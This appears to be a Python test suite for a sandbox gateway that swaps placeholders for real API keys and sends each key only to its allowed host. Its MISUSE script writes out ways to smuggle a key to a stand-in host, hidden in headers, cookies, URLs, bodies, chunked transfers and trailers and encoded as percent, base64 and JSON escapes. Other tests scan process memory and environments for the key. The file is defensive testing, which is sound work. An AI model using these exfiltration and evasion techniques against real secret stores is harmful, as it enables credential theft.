# SPDX-License-Identifier: Apache-2.0
"""Secrets: the real value reaches the origin it is for, and nothing else reaches anyone. The oracle is the origin."""
import base64
import fcntl
import glob
import json
import os
import resource
import subprocess
import time
from urllib.parse import quote

from harness.box import Box
from harness.origin import Origin, git_handler, git_repository
from harness.registry import cases, check, equal, test

HOST, OTHER = 'api.example.com', 'other.example.com'
VALUE = 'sk-real-7f3a9c21e8b44d06a5'


def setup(t, target='https://api.example.com/**', allow=(HOST, OTHER), flag=None, name='API_KEY'):
    origin = Origin(t.pki.context([HOST, OTHER]))
    other = Origin(t.pki.context([HOST, OTHER]))
    box = Box(t).connect(origin, HOST).connect(other, OTHER)
    for host in allow:
        box.add('--allow', host)
    box.add('--secret', flag or '%s@%s' % (name, target), **{name: VALUE})
    return box, origin, other


def forms(value):
    """The forms in which a value could be found somewhere it must not be."""
    raw = value.encode()
    return [raw, base64.b64encode(raw).rstrip(b'='), base64.b64encode(b'x' + raw)[4:-4],
            base64.b64encode(b'xx' + raw)[4:-4], ''.join('%%%02x' % b for b in raw).encode(), raw.hex().encode()]


def absent(value, data, where):
    for form in forms(value):
        check(form not in data, 'the value is in ' + where)


@test
def placeholder_in_the_environment(t):
    box, origin, other = setup(t)
    result = box.sh('echo "$API_KEY"; cat /proc/self/environ').ok()
    placeholder = result.out.splitlines()[0]
    check(placeholder.startswith('nsbox_') and placeholder.isascii(), 'placeholder: %r' % placeholder)
    equal(len(placeholder), len(VALUE), 'length of the placeholder')
    check(all(c.islower() or c.isdigit() for c in placeholder[6:]), 'placeholder: %r' % placeholder)
    absent(VALUE, result.out_bytes, 'the environment of the call')
    again = box.sh('echo "$API_KEY"').ok().out.strip()
    check(again != placeholder, 'the placeholder of another run is another')


@test
def header(t):
    box, origin, other = setup(t)
    result = box.sh('curl -sS -H "Authorization: Bearer $API_KEY" -H "X-Api-Key: $API_KEY" '
                    'https://api.example.com/headers').ok()
    equal(origin.requests[0].header('authorization'), ['Bearer ' + VALUE], 'Authorization')
    equal(origin.requests[0].header('x-api-key'), [VALUE], 'X-Api-Key')
    absent(VALUE, result.out_bytes + result.err.encode(), 'what the client saw')
    record = box.audit('secret.use')[0]
    equal((record['name'], record['host']), ('API_KEY', HOST), 'record')


@cases([('padded', ''), ('one', 'a'), ('two', 'ab'), ('long', 'someone@example.com')])
def basic(t, user):
    box, origin, other = setup(t)
    box.sh('curl -sS -u "$1:$API_KEY" https://api.example.com/', user).ok()
    want = 'Basic ' + base64.b64encode((user + ':' + VALUE).encode()).decode()
    equal(origin.requests[0].header('authorization'), [want], 'Authorization')


@test
def basic_unpadded(t):
    box, origin, other = setup(t)
    box.python('''
import base64
import fcntl
c = base64.b64encode(("u:" + os.environ["API_KEY"]).encode()).decode().rstrip("=")
out(fetch("https://api.example.com/", headers=[("Authorization", "Basic " + c)]).status)''').ok()
    got = origin.requests[0].header('authorization')[0].split()[1]
    equal(base64.b64decode(got + '=' * (-len(got) % 4)).decode(), 'u:' + VALUE, 'credentials')


@test
def query(t):
    box, origin, other = setup(t)
    box.add(API_KEY='a b&c=d/e+f%ü' + VALUE)
    box.sh('curl -sS "https://api.example.com/x?first=1&key=$API_KEY&last=2"').ok()
    want = quote('a b&c=d/e+f%ü' + VALUE, safe='')
    target = origin.requests[0].target
    equal(target.lower(), ('/x?first=1&key=%s&last=2' % want).lower(), 'target: escaped for its place')


@test
def several_secrets(t):
    box, origin, other = setup(t)
    box.add('--secret', 'SECOND@' + OTHER, SECOND='the-second-value-1234')
    box.sh('curl -sS -H "A: $API_KEY" https://api.example.com/ && curl -sS -H "A: $SECOND" https://other.example.com/; '
           'curl -s -o /dev/null -w "%{http_code}" -H "A: $SECOND" https://api.example.com/').ok()
    equal(origin.requests[0].header('a'), [VALUE], 'at the first')
    equal(other.requests[0].header('a'), ['the-second-value-1234'], 'at the second')
    equal((len(origin.requests), len(other.requests)), (1, 1), 'requests')


@test
def sources(t):
    path = t.write('file-secret', 'value-from-a-file\n')
    box, origin, other = setup(t)
    box.add('--secret', 'ONE=env:ELSEWHERE@' + HOST, '--secret', 'TWO=file:%s@%s' % (path, HOST),
            '--secret', 'THREE=exec:printf value-from-a-command@' + HOST, ELSEWHERE='value-from-elsewhere')
    box.sh('curl -sS -H "One: $ONE" -H "Two: $TWO" -H "Three: $THREE" https://api.example.com/').ok()
    request = origin.requests[0]
    equal([request.header(n)[0] for n in ('one', 'two', 'three')],
          ['value-from-elsewhere', 'value-from-a-file', 'value-from-a-command'], 'values')


@test
def path_scope(t):
    box, origin, other = setup(t, target='https://api.example.com/v1/**')
    result = box.sh('for p in v1/x v2/x; do curl -sS -o /dev/null -w "%{http_code} " -H "A: $API_KEY" '
                    'https://api.example.com/$p; done').ok()
    equal(result.out, '200 403 ', 'statuses')
    equal([r.path for r in origin.requests], ['/v1/x'], 'requests at the origin')


@test
def plain_http_refused(t):
    box, origin, other = setup(t, target=HOST)
    plain = Origin()
    box.connect(plain, HOST, port=80)
    result = box.sh('curl -sS -o /dev/null -w "%{http_code}" -H "A: $API_KEY" http://api.example.com/').ok()
    equal(result.out, '403', 'status')
    equal(plain.raw, b'', 'bytes at the origin')


MISUSE = '''
import base64, gzip, urllib.parse
k = os.environ["API_KEY"]
form = {"raw": k, "percent": "".join("%%%02X" % ord(c) for c in k), "partpercent": k.replace("n", "%6e").replace("s", "%73"),
        "base64": base64.b64encode(k.encode()).decode(), "base64b": base64.b64encode(b"x" + k.encode()).decode(),
        "base64c": base64.b64encode(b"xx" + k.encode()).decode(),
        "base64url": base64.urlsafe_b64encode(b"\\xff\\xfe" + k.encode()).decode().rstrip("="),
        "json": "".join("\\\\u%04x" % ord(c) for c in k)}[sys.argv[2]]
place, host = sys.argv[1], sys.argv[3]
u = "https://" + host
if place == "header": f = lambda: fetch(u + "/", headers=[("X-Data", form)])
elif place == "basic": f = lambda: fetch(u + "/", headers=[("Authorization", "Basic " + base64.b64encode(("u:" + k).encode()).decode())])
elif place == "cookie": f = lambda: fetch(u + "/", headers=[("Cookie", "a=b; s=" + form)])
elif place == "name": f = lambda: fetch(u + "/", headers=[("X-" + form, "1")])
elif place == "query": f = lambda: fetch(u + "/?q=" + form)
elif place == "path": f = lambda: fetch(u + "/a/" + form + "/b")
elif place == "body": f = lambda: fetch(u + "/", "POST", body=b'{"text": "' + form.encode() + b'"}')
elif place == "chunks":
    def f():
        s = tls(host); s.sendall(b"POST / HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
        for c in form.encode(): s.sendall(b"1\\r\\n%c\\r\\n" % c); time.sleep(0.002)
        s.sendall(b"0\\r\\n\\r\\n"); return read_answer(s)
elif place == "trailer":
    def f():
        s = tls(host); s.sendall(b"POST / HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
                                 b"1\\r\\nx\\r\\n0\\r\\nX-Data: " + form.encode() + b"\\r\\n\\r\\n"); return read_answer(s)
elif place == "late":
    def f(): return fetch(u + "/", "POST", body=b"." * 3000000 + form.encode() + b"." * 10)
out(attempt(f))
'''
PLACES = [('%s_%s' % (place, form), place, form)
          for place in ('header', 'cookie', 'query', 'path', 'body')
          for form in ('raw', 'percent', 'partpercent', 'base64', 'base64b', 'base64c', 'base64url', 'json')
          if (place, form) not in (('path', 'json'), ('query', 'json'))] + \
         [('basic', 'basic', 'raw'), ('header_name', 'name', 'raw'), ('body_chunks', 'chunks', 'raw'),
          ('body_chunks_base64', 'chunks', 'base64b'), ('body_late', 'late', 'raw'), ('trailer', 'trailer', 'raw')]


@cases(PLACES)
def misuse(t, place, form):
    """Towards a host that the secret is not for: 403, and the origin has nothing of it in any form."""
    box, origin, other = setup(t)
    result = box.python(MISUSE, place, form, OTHER).ok().json()
    streamed = place in ('chunks', 'late', 'trailer')
    if not streamed:
        equal(result.get('status'), 403, 'status %r' % result)
        equal(other.requests, [], 'requests at the other origin')
    else:
        check(result.get('status') == 403 or 'error' in result, '%r' % result)
    equal([r for r in other.requests if getattr(r, 'trailers', None)], [], 'trailers at the other origin')
    raw = other.raw
    absent(VALUE, raw, 'what the other origin received')
    check(b'nsbox_' not in raw, 'the placeholder went out')
    records = box.audit('secret.misuse')
    equal(len(records), 1, 'records of misuse')
    equal((records[0]['name'], records[0]['host']), ('API_KEY', OTHER), 'record')


@cases([(p + '_' + f, p, f) for p, f in (('path', 'raw'), ('body', 'raw'), ('body', 'json'), ('header', 'percent'))])
def misplaced_at_its_own_host(t, place, form):
    """At its own host, but in a place where it is not injected: nothing of it goes out."""
    box, origin, other = setup(t)
    result = box.python(MISUSE, place, form, HOST).ok().json()
    equal(result.get('status'), 403, 'status %r' % result)
    equal(origin.requests, [], 'requests at the origin')
    equal(len(box.audit('secret.misuse')), 1, 'records')


@test
def denied_host_is_still_misuse_free(t):
    """A host that no rule names: denied before anything is looked at; nothing goes out."""
    box, origin, other = setup(t, allow=(HOST,))
    result = box.sh('curl -sS -o /dev/null -w "%{http_code}" -H "A: $API_KEY" https://other.example.com/').ok()
    equal(result.out, '403', 'status')
    equal((other.accepted, other.raw), (0, b''), 'at the other origin')


@test
def redirect_does_not_carry_it(t):
    box, origin, other = setup(t)
    result = box.sh('curl -sS -L --location-trusted -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $API_KEY" '
                    '"https://api.example.com/redirect?to=https://other.example.com/"').ok()
    equal(result.out, '403', 'status')
    equal(other.requests, [], 'requests at the other origin')
    absent(VALUE, other.raw, 'what the other origin received')


@test
def answer_of_403_does_not_tell(t):
    box, origin, other = setup(t)
    result = box.sh('curl -sS -H "A: $API_KEY" https://other.example.com/').ok()
    problem = json.loads(result.out)
    check(OTHER in result.out and 'secret' in result.out, 'it says what and where: %r' % problem)
    absent(VALUE, result.out_bytes, 'the answer')


@test
def value_is_nowhere(t):
    """While a call runs: not in any file of state or runtime, not in any process but the gateway."""
    box, origin, other = setup(t)
    process = box.start_python('''
print(fetch("https://api.example.com/", headers=[("A", os.environ["API_KEY"])]).status, flush=True); sys.stdin.read()
''', stdin=subprocess.PIPE)
    equal(process.stdout.readline(), b'200\n', 'first line')
    from harness.registry import descendants
    searched = 0
    for pid, name in descendants(os.getpid()).items():
        if pid == process.pid:
            continue
        for file in ('environ', 'cmdline'):
            try:
                with open('/proc/%d/%s' % (pid, file), 'rb') as f:
                    absent(VALUE, f.read(), '%s of %s' % (file, name))
                    searched += 1
            except OSError:
                pass
        if name != 'nsbox-gateway':
            absent(VALUE, memory(pid), 'the memory of ' + name)
    check(searched >= 4, 'processes searched: %d' % searched)
    out, err = process.communicate(b'', timeout=60)
    for path in glob.glob(box.dir + '/**', recursive=True):
        if os.path.isfile(path):
            with open(path, 'rb') as f:
                absent(VALUE, f.read(), path)
    absent(VALUE, out + err, 'the output')


def memory(pid):
    """What can be read of the memory of a process (as root: all of it)."""
    data = b''
    try:
        with open('/proc/%d/maps' % pid) as maps, open('/proc/%d/mem' % pid, 'rb', 0) as mem:
            for line in maps:
                span, mode = line.split()[:2]
                begin, end = [int(x, 16) for x in span.split('-')]
                if 'w' in mode and end - begin < 64 << 20:
                    try:
                        mem.seek(begin)
                        data += mem.read(end - begin)
                    except (OSError, ValueError):
                        pass
    except OSError:
        pass
    return data


@test
def gateway_cannot_be_read(t):
    """The gateway's memory is closed to the user himself."""
    if os.getuid() == 0:
        t.skip('root may read any process; the unprivileged run shows it')
    box, origin, other = setup(t)
    process = box.start_python('print(1, flush=True); sys.stdin.read()', stdin=subprocess.PIPE)
    process.stdout.readline()
    pid = box.helper('nsbox-gateway')
    for file in ('mem', 'environ', 'maps'):
        try:
            with open('/proc/%d/%s' % (pid, file), 'rb') as f:
                f.read(1)
            raise AssertionError(file + ' of the gateway can be opened')
        except PermissionError:
            pass
    process.communicate(b'', timeout=60)


@test
def placeholder_shape(t):
    box, origin, other = setup(t)
    policy = t.write('policy.ini', '''[sandbox]
version = 1
[secret SHAPED]
source = env:SHAPED
allow = https://api.example.com/**
placeholder = sk-ant-{random:40}
''')
    result = box.add('-f', policy, SHAPED='sk-ant-real-value-of-another-length').sh(
        'echo $SHAPED; curl -sS -H "X: $SHAPED" https://api.example.com/').ok()
    placeholder = result.out.splitlines()[0]
    check(placeholder.startswith('sk-ant-') and len(placeholder) == 47, placeholder)
    equal(origin.requests[0].header('x'), ['sk-ant-real-value-of-another-length'], 'header')


def with_misuse(t, way):
    box, origin, other = setup(t)
    policy = t.write('policy.ini', '[sandbox]\nversion = 1\n[secret SOFT]\nsource = env:SOFT\n'
                     'allow = https://api.example.com/**\non_misuse = %s\n' % way)
    return box.add('-f', policy, SOFT='soft-value-0123456789'), origin, other


@cases([('header', '-H "X: $SOFT"', '/'), ('header_name', '-H "$SOFT: x"', '/'), ('query', '', '/?a=$SOFT'),
        ('path', '', '/a/$SOFT'), ('body', '-d "a=$SOFT"', '/'), ('basic', '-u "user:$SOFT"', '/'),
        ('long_body', '-d "$SOFT$(head -c 40000 /dev/zero | tr "\\0" x)"', '/')])
def on_misuse_pass(t, flags, target):
    """Harmless text goes on as it is, and is recorded once."""
    box, origin, other = with_misuse(t, 'pass')
    result = box.sh('echo $SOFT; curl -sS -o /dev/null -w "%%{http_code}" %s "https://other.example.com%s"' % (flags, target))
    placeholder, status = result.out.split()
    equal(status, '200', 'status')
    sent = other.raw + b''.join(base64.b64decode(v.split()[1]) for v in other.requests[0].header('authorization'))
    check(placeholder.encode() in sent, 'the placeholder goes out as harmless text: %r' % sent[:500])
    check(b'soft-value' not in sent, 'the value went out')
    equal([(r['name'], r['reason']) for r in box.audit('secret.misuse')], [('SOFT', 'passed')], 'records')


@test
def on_misuse_pass_is_of_one_secret(t):
    box, origin, other = with_misuse(t, 'pass')
    result = box.sh('curl -sS -o /dev/null -w "%{http_code}" -H "X: $SOFT" -H "Y: $API_KEY" https://other.example.com/; '
                    'curl -sS -o /dev/null -H "X: $SOFT" https://api.example.com/')
    equal((result.out, other.requests), ('403', []), 'status and requests')
    equal(origin.requests[0].header('x'), ['soft-value-0123456789'], 'where it may go, it goes')


@cases([('allowed_host', 'https://other.example.com/'), ('denied_host', 'https://third.example.com/')])
def on_misuse_kill(t, url):
    box, origin, other = with_misuse(t, 'kill')
    box.connect(other, 'third.example.com')
    control = box.sh('curl -sS -o /dev/null https://other.example.com/; echo survived').ok()
    equal(control.out, 'survived\n', 'without misuse')
    asked = len(other.requests)
    result = box.sh('trap "" TERM; curl -sS -o /dev/null -H "X: $SOFT" %s; sleep 600; echo survived' % url)
    check(result.code == 137 and 'survived' not in result.out, 'the call goes on: %r' % result)
    equal(len(other.requests), asked, 'requests at the other origin')
    equal(len(box.audit('secret.misuse', name='SOFT')), 1, 'records of misuse')
    equal([r['reason'] for r in box.audit('call.exit')], ['revoked'], 'end of the call')


@test
def a_made_up_placeholder_is_text(t):
    box, origin, other = setup(t)
    fake = 'nsbox_' + 'a' * (len(VALUE) - 6)
    box.sh('curl -sS -H "X: $1" https://api.example.com/', fake).ok()
    equal(origin.requests[0].header('x'), [fake], 'header')


@test
def old_placeholder_is_dead(t):
    box, origin, other = setup(t)
    old = box.sh('echo $API_KEY').ok().out.strip()
    box.sh('curl -s -H "X: $1" https://api.example.com/', old)
    for request in origin.requests:
        check(request.header('x') != [VALUE], 'a placeholder of an earlier run worked')


@test
def git_clone(t):
    root = git_repository(t.tmp)
    origin = Origin(t.pki.context(['git.example.com']), handler=git_handler(root, 'x-token', VALUE))
    box = Box(t).connect(origin, 'git.example.com').add('--allow', 'git.example.com')
    box.add('--secret', 'GIT_TOKEN@https://git.example.com/acme/**', GIT_TOKEN=VALUE)
    result = box.sh('git clone -q "https://x-token:$GIT_TOKEN@git.example.com/acme/app.git" && cat app/README && '
                    'cat app/.git/config && cd app && git -c user.name=a -c user.email=a@b.c commit -q --allow-empty -m two && '
                    'git push -q').ok()
    check(result.out.startswith('the application\n'), '%r' % result)
    absent(VALUE, result.out_bytes, 'the clone')
    check(any(r.header('authorization') for r in origin.requests), 'credentials arrived')
    log = subprocess.run(['git', '-c', 'safe.directory=*', '-C', root + '/acme/app.git', 'log', '--format=%s'],
                         stdout=subprocess.PIPE, timeout=60)
    equal(log.stdout, b'two\nStart\n', 'commits on the server after the push')
    later = box.sh('cd app && git push -q origin HEAD:later')
    check(later.code != 0, 'the placeholder in .git/config is dead after its run: %r' % later)
    wrong = box.sh('git clone -q https://x-token:wrong-token@git.example.com/acme/app.git again')
    check(wrong.code != 0, 'a wrong token is refused: %r' % wrong)


@test
def many_uses_are_all_recorded(t):
    box, origin, other = setup(t)
    box.python('''
s = tls("api.example.com")
for i in range(100):
    send(s, "GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nA: %s\\r\\n\\r\\n" % os.environ["API_KEY"])''').ok()
    time.sleep(0.1)
    equal(len(box.audit('secret.use')), 100, 'records')
    equal(len([r for r in origin.requests if r.header('a') == [VALUE]]), 100, 'requests')


def with_secrets(t, n, length):
    """A box with n secrets, KEY_0 and so on, of values of this length."""
    box, origin, _ = setup(t)
    values = {'KEY_%d' % i: ('value-%03d-' % i).ljust(length, 'v') for i in range(n - 1)}
    for name in values:
        box.add('--secret', '%s@https://api.example.com/**' % name, **values)
    return box, origin, values


def refused(box, why):
    result = box.sh('true')
    equal(result.code, 125, 'exit status (%r)' % result)
    check(why in result.err, '%r is not in %r' % (why, result.err))


@test
def as_many_as_there_may_be(t):
    """Each goes out and each is searched for; one more is refused."""
    box, origin, values = with_secrets(t, 128, 40)
    origin.handler = lambda c, r: Origin.reply(c, body=' '.join(values.values()).encode())
    got = box.python('''
keys = ["API_KEY"] + ["KEY_%d" % i for i in range(127)]
s, bodies = tls("api.example.com"), set()
for i in range(0, 128, 16):
    fields = ["X-%d: %s" % (k, os.environ[keys[k]]) for k in range(i, i + 16)]
    bodies.add(send(s, "GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n" + "\\r\\n".join(fields) + "\\r\\n\\r\\n").body.decode())
out(bodies == {" ".join(os.environ[k] for k in keys[1:])})''').ok().json()
    sent = [v for r in origin.requests for name, v in r.headers if name.lower().startswith('x-')]
    equal(sent, [VALUE, *values.values()], 'what the server was sent')
    check(got is True, 'what the sandbox sees of the answer: %r' % got)
    box.add('--secret', 'MORE@https://api.example.com/**', MORE=VALUE)
    refused(box, 'more than 128 secrets in one policy')


@test
def too_much_for_one_environment(t):
    """Placeholders are as long as the values, and go into one environment."""
    refused(with_secrets(t, 6, 32000)[0], 'together')


@test
def small_pipes(t):
    """A user with very many pipes gets small ones. A value that does not fit into one arrives all the same."""
    if os.getuid() == 0:
        t.skip('root has no bound on pipes')
    box, origin, other = setup(t)
    box.env['API_KEY'] = 'x' * 30000
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    pipes = [os.pipe()]
    try:
        while len(pipes) < 4000 and fcntl.fcntl(pipes[-1][0], fcntl.F_GETPIPE_SZ) > 8192:
            pipes.append(os.pipe())
    except OSError as e:
        t.skip('not so many pipes can be had: %s' % e)
    if fcntl.fcntl(pipes[-1][0], fcntl.F_GETPIPE_SZ) > 8192:
        t.skip('pipes do not get smaller')
    box.sh('curl -sS -H "X-Key: $API_KEY" https://api.example.com/').ok()
    equal(origin.requests[0].header('x-key'), ['x' * 30000], 'at the origin')
